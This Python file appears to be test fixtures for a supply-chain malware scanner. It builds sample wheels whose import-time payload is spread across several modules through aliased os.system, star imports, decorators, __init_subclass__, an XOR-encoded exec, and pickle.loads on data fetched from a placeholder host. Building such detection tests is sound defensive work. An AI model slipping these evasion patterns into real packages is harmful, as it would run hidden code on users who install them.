"""Packages whose payload is spread over several of their files: none of them does anything by itself."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Final

from tests.samples.dists import wheel
from tests.samples.sample import COMMAND, HOST, SYSTEM, Event, Proof
from tests.samples.shape import HARM, Shape

_CALL: Final = HARM.splitlines()[1]
_KEY: Final = 0x37


def _over(id: str, what: str, files: Mapping[str, str], proof: Proof = SYSTEM, said: str = "acts-on-import") -> Shape:
    return Shape(
        id=f"over-files-{id}",
        what=what,
        build=lambda: {"kit-1.0-py3-none-any.whl": wheel("kit", "1.0", files)},
        fire="import kit",
        said=(said,),
        expected="block" if said == "acts-on-import" else "review",
        proof=proof,
    )


SHAPES: Final = [
    _over(
        "function",
        "`__init__` calls a function of another module, which acts",
        {"kit/__init__.py": "from ._util import run\nrun()\n", "kit/_util.py": f"import os\ndef run():\n    {_CALL}\n"},
    ),
    _over(
        "module-function",
        "the same, by the name of the module",
        {
            "kit/__init__.py": "from . import _util\n_util.run()\n",
            "kit/_util.py": f"import os\ndef run():\n    {_CALL}\n",
        },
    ),
    _over(
        "given",
        "the command stands where the function is called, and what starts it in the function",
        {
            "kit/__init__.py": f"from ._util import run\nrun({COMMAND!r})\n",
            "kit/_util.py": "import os\ndef run(command):\n    os.system(command)\n",
        },
    ),
    _over(
        "given-twice",
        "the same, called with what harms nobody before and after",
        {
            "kit/__init__.py": "from ._util import run\n"
            f"run('git --version')\nrun({COMMAND!r})\nrun('git --version')\n",
            "kit/_util.py": "import os\ndef run(command):\n    if command[:3] != 'git':\n        os.system(command)\n",
        },
    ),
    _over(
        "object",
        "a method of an object that another module made acts",
        {
            "kit/__init__.py": "from ._state import state\nstate.load()\n",
            "kit/_state.py": f"import os\nclass State:\n    def load(self):\n        {_CALL}\nstate = State()\n",
        },
    ),
    _over(
        "beside",
        "the function is in a module that the wheel puts beside the package",
        {
            "kit/__init__.py": "import speedups\nspeedups.enable()\n",
            "speedups.py": f"import os\ndef enable():\n    {_CALL}\n",
        },
    ),
    _over(
        "pickle",
        "another module gives `pickle`, and what is unpickled is fetched",
        {
            "kit/__init__.py": "from . import _compat\n_compat.objects.loads(_compat.fetch())\n",
            "kit/_compat.py": "import pickle as objects\nimport urllib.request\ndef fetch():\n"
            f"    return urllib.request.urlopen('http://{HOST}/w').read()\n",
        },
        proof=Event("urllib.Request", HOST),
        said="unsafe-load-on-import",
    ),
    _over(
        "three",
        "a function calls another that calls another, each in a file of its own",
        {
            "kit/__init__.py": "import kit._a\nkit._a.go()\n",
            "kit/_a.py": "from ._b import Runner\ndef go():\n    Runner().start()\n",
            "kit/_b.py": "from . import _c as low\nclass Runner:\n    def start(self):\n        low.run()\n",
            "kit/_c.py": f"import os\ndef run():\n    {_CALL}\n",
        },
    ),
    _over(
        "name",
        "a module gives what starts programs a name of its own",
        {
            "kit/__init__.py": f"from ._compat import call\ncall({COMMAND!r})\n",
            "kit/_compat.py": "from os import system as call\n",
        },
    ),
    _over(
        "names",
        "`os` goes by another name in another module",
        {
            "kit/__init__.py": f"from . import _compat as compat\ncompat.host.system({COMMAND!r})\n",
            "kit/_compat.py": "import os as host\n",
        },
    ),
    _over(
        "star",
        "all names of a module are taken, among them what starts programs",
        {
            "kit/__init__.py": f"from ._compat import *\ncall({COMMAND!r})\n",
            "kit/_compat.py": "from ._more import *\n",
            "kit/_more.py": "from os import system as call\n",
        },
    ),
    _over(
        "class",
        "to inherit from a class of another module acts",
        {
            "kit/__init__.py": "from ._base import Base\nclass Kit(Base):\n    pass\n",
            "kit/_base.py": f"import os\nclass Base:\n    def __init_subclass__(cls):\n        {_CALL}\n",
        },
    ),
    _over(
        "decorator",
        "a decorator of another module acts",
        {
            "kit/__init__.py": "from ._mark import register\n@register\ndef f():\n    pass\n",
            "kit/_mark.py": f"import os\ndef register(function):\n    {_CALL}\n    return function\n",
        },
    ),
    _over(
        "key",
        "the key is in one module, what it opens in another, and what runs it in a third",
        {
            "kit/__init__.py": "from ._key import KEY\nfrom ._data import DATA\n"
            "exec(bytes(byte ^ KEY for byte in DATA))\n",
            "kit/_key.py": f"KEY = {_KEY}\n",
            "kit/_data.py": f"DATA = {bytes(byte ^ _KEY for byte in HARM.encode())!r}\n",
        },
    ),
    _over(
        "fetched",
        "objects are made of what comes over the network, in a function that `__init__` calls",
        {
            "kit/__init__.py": "from ._weights import fetch\nMODEL = fetch()\n",
            "kit/_weights.py": "import pickle, urllib.request\ndef fetch():\n"
            f"    return pickle.loads(urllib.request.urlopen('http://{HOST}/w').read())\n",
        },
        proof=Event("urllib.Request", HOST),
    ),
]
